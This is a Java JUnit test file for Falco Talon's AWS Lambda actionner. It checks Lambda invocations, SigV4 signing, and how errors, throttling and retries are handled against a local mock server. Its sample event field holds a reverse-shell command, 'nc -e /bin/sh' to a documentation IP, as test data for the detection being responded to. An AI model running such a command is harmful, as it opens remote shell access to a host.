package org.falcosecurity.talon.actionners.aws;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.falcosecurity.talon.contract.ActionResult;
import org.falcosecurity.talon.support.HttpReceiver;
import org.falcosecurity.talon.support.ScriptedHttpServer;
import org.falcosecurity.talon.support.ScriptedHttpServer.Answer;
import org.falcosecurity.talon.support.TalonTestServer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;

import static org.assertj.core.api.Assertions.assertThat;
import static org.falcosecurity.talon.kubernetes.ActionnerRun.run;

/**
 * aws:lambda through the running Talon against a stand-in for the Lambda Invoke REST API on a loopback HTTP server
 * ({@code aws.endpoint} pointed at it; no real Lambda can run here): the request's path, qualifier,
 * {@code X-Amz-Invocation-Type}, payload and SigV4 {@code Authorization}; a function's answer, a function error, a
 * throttled call retried and a missing function not retried.
 */
class LambdaProtocolTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String ACCESS_KEY = "AKIATALONTEST0000001";
    private static final String SECRET_KEY = "talon-test-secret-key-0000000000000000000";
    private static final AtomicInteger BUSY = new AtomicInteger();

    private static ScriptedHttpServer lambda;
    private static TalonTestServer talon;

    private static final String RULES = """
            - rule: invoke
              match: {rules: [invoke]}
              actions:
                - action: Invoke Lambda function
                  actionner: aws:lambda
                  parameters:
                    aws_lambda_name: sample-function
                    aws_lambda_alias_or_version: prod
            - rule: async
              match: {rules: [async]}
              actions: [{action: a, actionner: aws:lambda, parameters: {aws_lambda_name: sample-function,
                         aws_lambda_invocation_type: Event}}]
            - rule: broken
              match: {rules: [broken]}
              actions: [{action: a, actionner: aws:lambda, parameters: {aws_lambda_name: broken}}]
            - rule: busy
              match: {rules: [busy]}
              actions: [{action: a, actionner: aws:lambda, parameters: {aws_lambda_name: busy}}]
            - rule: missing
              match: {rules: [missing]}
              actions: [{action: a, actionner: aws:lambda, parameters: {aws_lambda_name: missing}}]
            """;

    @BeforeAll
    static void start() throws Exception {
        lambda = new ScriptedHttpServer(LambdaProtocolTest::answer);
        talon = TalonTestServer.builder().withoutKubernetesCluster()
                .config("print_all_events: false\ndeduplication:\n  time_window_seconds: 0\naws:\n  region: eu-west-1\n"
                        + "  access_key: " + ACCESS_KEY + "\n  secret_key: " + SECRET_KEY + "\n  endpoint: "
                        + lambda.url() + "\n")
                .rules(RULES).start();
    }

    @AfterAll
    static void stop() {
        talon.close();
        lambda.close();
    }

    @BeforeEach
    void clear() {
        lambda.clear();
        BUSY.set(0);
    }

    /** The Invoke API as AWS documents it: POST /2015-03-31/functions/{name}/invocations?Qualifier=... */
    private static Answer answer(HttpReceiver.Request r) {
        String fn = r.path().replaceFirst("^/2015-03-31/functions/([^/]+)/invocations$", "$1");
        Map<String, String> json = Map.of("Content-Type", "application/json");
        return switch (fn) {
            case "sample-function" -> "Event".equals(r.header("x-amz-invocation-type"))
                    ? new Answer(202, Map.of(), "")
                    : new Answer(200, Map.of("Content-Type", "application/json", "X-Amz-Executed-Version", "7"),
                    "{\"handled\":true,\"pod\":\"web-1\"}");
            case "broken" -> new Answer(200, Map.of("Content-Type", "application/json", "X-Amz-Function-Error",
                    "Unhandled"), "{\"errorType\":\"Error\",\"errorMessage\":\"cannot reach the SIEM\"}");
            case "busy" -> BUSY.incrementAndGet() == 1
                    ? new Answer(429, Map.of("Content-Type", "application/json", "x-amzn-ErrorType",
                    "TooManyRequestsException"), "{\"Reason\":\"ReservedFunctionConcurrentInvocationLimitExceeded\","
                    + "\"Type\":\"User\",\"message\":\"Rate Exceeded.\"}")
                    : new Answer(200, json, "\"second time lucky\"");
            case "missing" -> new Answer(404, Map.of("Content-Type", "application/json", "x-amzn-ErrorType",
                    "ResourceNotFoundException"), "{\"Type\":\"User\",\"Message\":\"Function not found: "
                    + "arn:aws:lambda:eu-west-1:123456789012:function:missing:$LATEST\"}");
            default -> Answer.of(400, "unexpected path " + r.path());
        };
    }

    private static Map<String, String> fields() {
        return Map.of("k8s.ns.name", "shop", "k8s.pod.name", "web-1", "proc.cmdline", "nc -e /bin/sh 203.0.113.7");
    }

    @Test
    void invokesTheFunctionWithTheEventAsASignedRequestAndReportsItsAnswer() throws Exception {
        ActionResult r = run(talon, "invoke", fields());
        assertThat(r.getStatus()).as(r.getJson()).isEqualTo("success");
        assertThat(r.getOutput()).isEqualTo("{\"handled\":true,\"pod\":\"web-1\"}");
        assertThat(r.getObjects()).containsEntry("name", "sample-function").containsEntry("version", "prod");
        assertThat(r.getJson()).doesNotContain(SECRET_KEY).doesNotContain(ACCESS_KEY);

        assertThat(lambda.requests()).singleElement().satisfies(q -> {
            assertThat(q.method()).isEqualTo("POST");
            assertThat(q.path()).isEqualTo("/2015-03-31/functions/sample-function/invocations");
            assertThat(q.query()).isEqualTo("Qualifier=prod");
            assertThat(q.header("x-amz-invocation-type")).isEqualTo("RequestResponse");
            // SigV4: the configured key, the region and the service in the scope; the payload hash is signed
            assertThat(q.header("authorization")).matches("AWS4-HMAC-SHA256 Credential=" + ACCESS_KEY
                    + "/\\d{8}/eu-west-1/lambda/aws4_request, SignedHeaders=[a-z0-9;-]*host[a-z0-9;-]*"
                    + "x-amz-date[a-z0-9;-]*, Signature=[0-9a-f]{64}");
            assertThat(q.header("x-amz-date")).matches("\\d{8}T\\d{6}Z");
            assertThat(q.header("authorization")).doesNotContain(SECRET_KEY);
            JsonNode payload = JSON.readTree(q.body());
            assertThat(payload.path("rule").asText()).isEqualTo("invoke");
            assertThat(payload.path("priority").asText()).isEqualTo("Critical");
            assertThat(payload.path("output_fields").path("proc.cmdline").asText())
                    .isEqualTo("nc -e /bin/sh 203.0.113.7");
            assertThat(payload.path("trace_id").asText()).isEqualTo(r.getTraceId());
            JsonNode context = payload.path("context");
            assertThat(context.path("falco-talon.rule").asText()).isEqualTo("invoke");
            assertThat(context.path("falco-talon.action").asText()).isEqualTo("Invoke Lambda function");
            assertThat(context.path("falco-talon.actionner").asText()).isEqualTo("aws:lambda");
            assertThat(JSON.readTree(context.path("falco-talon.action.parameters").asText())
                    .path("aws_lambda_alias_or_version").asText()).isEqualTo("prod");
        });
    }

    @Test
    void theDefaultsAreLatestAndRequestResponseAndEventInvocationsAreAsynchronous() throws Exception {
        ActionResult r = run(talon, "async", fields());
        assertThat(r.getStatus()).as(r.getJson()).isEqualTo("success");
        assertThat(lambda.requests()).singleElement().satisfies(q -> {
            assertThat(q.query()).isEqualTo("Qualifier=%24LATEST");
            assertThat(q.header("x-amz-invocation-type")).isEqualTo("Event");
        });
    }

    @Test
    void aFunctionErrorIsAFailureWithTheFunctionsMessage() throws Exception {
        ActionResult r = run(talon, "broken", fields());
        assertThat(r.getStatus()).isEqualTo("failure");
        assertThat(r.getError()).isEqualTo("function broken:$LATEST failed (Unhandled): cannot reach the SIEM");
        assertThat(r.getOutput()).contains("\"errorType\":\"Error\"");
        assertThat(lambda.requests()).hasSize(1);
    }

    @Test
    void aThrottledInvocationIsRetried() throws Exception {
        ActionResult r = run(talon, "busy", fields());
        assertThat(r.getStatus()).as(r.getJson()).isEqualTo("success");
        assertThat(r.getOutput()).isEqualTo("\"second time lucky\"");
        assertThat(lambda.requests()).hasSize(2);
    }

    @Test
    void aMissingFunctionIsAFailureWithoutRetries() throws Exception {
        ActionResult r = run(talon, "missing", fields());
        assertThat(r.getStatus()).isEqualTo("failure");
        assertThat(r.getError()).startsWith("AWS Lambda answered 404 (ResourceNotFoundException) for function"
                + " missing:$LATEST: Function not found: ").doesNotContain(SECRET_KEY);
        assertThat(lambda.requests()).hasSize(1);
    }
}
